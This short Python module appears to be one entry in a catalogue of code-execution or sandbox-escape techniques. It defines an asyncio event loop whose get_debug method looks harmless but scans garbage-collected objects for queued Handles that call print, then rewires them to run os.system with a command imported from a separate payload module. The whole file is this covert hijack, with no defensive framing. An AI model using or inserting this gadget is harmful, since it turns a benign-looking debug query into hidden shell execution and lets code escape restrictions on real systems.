"""A loop that is asked whether it debugs fills the handle that asks anew."""
CATEGORY = "deferred"
REACH = "run"

import asyncio
import gc
import os

from . import payload


class Loop(asyncio.SelectorEventLoop):

    def get_debug(self):
        for handle in gc.get_objects():
            if type(handle) is asyncio.Handle and (
                    getattr(handle, "_callback", None) is print):
                handle._callback = os.system
                handle._args = payload.COMMAND,
        return False
